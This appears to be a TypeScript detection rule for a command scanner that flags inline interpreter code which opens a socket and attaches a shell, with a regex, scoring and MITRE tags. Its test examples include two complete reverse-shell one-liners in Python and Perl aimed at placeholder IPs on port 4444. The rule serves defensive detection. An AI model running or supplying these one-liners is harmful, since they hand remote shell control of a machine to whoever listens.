import type { Indicator } from './types.ts';

/** Starts programs or puts its own input and output on a descriptor. */
const RUNS =
  /\b(?:system|exec[lv]?[pe]{0,2}|popen|spawn|passthru|shell_exec|proc_open)\b\s{0,4}[($'"`]|(?:STDIN|STDOUT|stdin|stdout)\s{0,4}(?:->|\.)\s{0,4}(?:fdopen|reopen)|\bdup2\b/;

/** Inline code that opens a connection and runs a shell on it. */
export const inlineRevshell: Indicator = {
  id: 'inline_revshell',
  points: 80,
  hard: true,
  in_strings: true,
  mitre: ['T1059.006', 'T1059'],
  title: 'Inline code attaches a shell to a connection',
  description: 'Code in the arguments of an interpreter opens a socket and runs a shell on it.',
  evaluate(context) {
    const { code } = context.invocation;
    if (!code?.opens_socket) return undefined;
    const evidence = `${context.resolution.invoked_as}: inline ${code.language} code`;
    if (code.attaches_shell) {
      return { evidence, why: `its inline ${code.language} code opens a connection and runs a shell on it` };
    }
    const runs =
      code.runs_program || context.resolution.words.some((word) => RUNS.test(word.slice(0, 65_536)));
    if (!runs || context.loopback_only) return undefined;
    return {
      points: 60,
      evidence,
      why: `its inline ${code.language} code opens a connection and starts programs`,
    };
  },
  examples: {
    fires: [
      {
        run: `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
      },
      {
        run: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'`,
      },
    ],
    silent: [
      { run: `python3 -c 'import urllib.request; urllib.request.urlopen("http://api.example.com/")'` },
      { run: `python3 -c 'import subprocess; subprocess.call(["ls"])'` },
    ],
  },
};
